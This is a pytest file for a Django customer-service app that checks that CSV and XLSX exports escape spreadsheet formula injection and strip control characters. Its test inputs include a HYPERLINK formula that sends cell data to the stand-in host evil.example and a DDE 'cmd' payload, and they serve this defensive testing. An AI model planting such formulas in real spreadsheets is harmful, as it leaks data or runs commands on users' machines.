"""Formula injection and broken files in every export: one function makes each cell safe."""

import csv
import io
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command

from huitou.accounts.tests.factories import UserFactory
from huitou.core.spreadsheet import safe_cell, unescape_cell
from huitou.customers.importing import do_customers_import
from huitou.customers.models import Customer
from huitou.customers.tests.factories import CustomerFactory, legacy_customer

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_formula_text_gets_an_apostrophe_and_numbers_stay_numbers():
    for text in (PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1"):
        assert safe_cell(text) == "'" + text
        assert unescape_cell(safe_cell(text)) == text
    assert safe_cell("'引号开头") == "''引号开头" and unescape_cell("''引号开头") == "'引号开头"
    assert safe_cell("周建国") == "周建国" and safe_cell(None) == ""
    assert safe_cell(3) == 3 and safe_cell(Decimal("-2.50")) == Decimal("-2.50")
    assert safe_cell("-12.50") == "-12.50" and safe_cell("+3") == "+3"  # plain numbers
    assert safe_cell("坏\x00字\x1b符\x7f") == "坏字符"
    assert safe_cell("多行\n文本\t保留") == "多行\n文本\t保留"


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_customer_csv_export_escapes_formulas_and_imports_back_unchanged(client, tmp_path):
    supervisor = UserFactory(role="supervisor")
    client.force_login(supervisor)
    customer = CustomerFactory(name=PAYLOAD, city="@city", note="-1+1")
    response = client.get("/customers/export.csv")
    assert response.status_code == 200
    header, row = _csv_rows(response.content)
    assert row[header.index("name")] == "'" + PAYLOAD
    assert row[header.index("city")] == "'@city" and row[header.index("note")] == "'-1+1"
    path = tmp_path / "back.csv"
    path.write_bytes(response.content)
    report = do_customers_import(actor=supervisor, path=path)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    customer.refresh_from_db()
    assert customer.name == PAYLOAD


@pytest.mark.django_db
def test_customer_xlsx_export_writes_strings_not_formulas(client, tmp_path):
    from openpyxl import load_workbook

    supervisor = UserFactory(role="supervisor")
    client.force_login(supervisor)
    CustomerFactory(name=PAYLOAD, address="+86 地址")
    response = client.get("/customers/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("name") + 1)
    assert name.data_type == "s" and name.value == "'" + PAYLOAD
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    path = tmp_path / "back.xlsx"
    path.write_bytes(response.content)
    assert do_customers_import(actor=supervisor, path=path).unchanged == 1


@pytest.mark.django_db
def test_a_control_character_in_a_customer_field_does_not_break_the_xlsx_export(client):
    from openpyxl import load_workbook

    client.force_login(UserFactory(role="supervisor"))
    legacy_customer(name="王\x01芳", note="换页\x0c符")  # the service refuses them
    response = client.get("/customers/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert sheet.cell(row=2, column=header.index("name") + 1).value == "王芳"
    assert client.get("/customers/export.csv").status_code == 200


@pytest.mark.django_db
@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_the_export_command_escapes_formulas(tmp_path, suffix):
    from openpyxl import load_workbook

    legacy_customer(name=PAYLOAD, note="坏\x02字符")
    path = tmp_path / f"customers.{suffix}"
    call_command("export", "customers", str(path), stderr=StringIO())
    if suffix == "csv":
        header, row = _csv_rows(path.read_bytes())
        values = dict(zip(header, row, strict=True))
    else:
        sheet = load_workbook(path).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        values = {h.value: c.value for h, c in zip(sheet[1], sheet[2], strict=True)}
    assert values["name"] == "'" + PAYLOAD and values["note"] == "坏字符"
    assert Customer.objects.get().name == PAYLOAD


@pytest.mark.django_db
def test_the_kb_export_escapes_formulas_and_imports_back(tmp_path):
    from huitou.knowledge.models import FaqEntry
    from huitou.knowledge.services import do_faq_save

    do_faq_save(
        actor=None,
        category="售后",
        question='=HYPERLINK("http://evil.example","保修")',
        answer="@保修三年",
        similar=["-保修多久"],
    )
    path = tmp_path / "kb.csv"
    call_command("kb", "export", str(path), stdout=StringIO())
    header, row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    values = dict(zip(header, row, strict=True))
    assert values["question"].startswith("'=HYPERLINK")
    assert values["answer"] == "'@保修三年" and values["similar_questions"] == "'-保修多久"
    out = StringIO()
    call_command("kb", "import", str(path), stdout=out)
    assert "未变 1" in out.getvalue()
    assert FaqEntry.objects.get().question.startswith("=HYPERLINK")
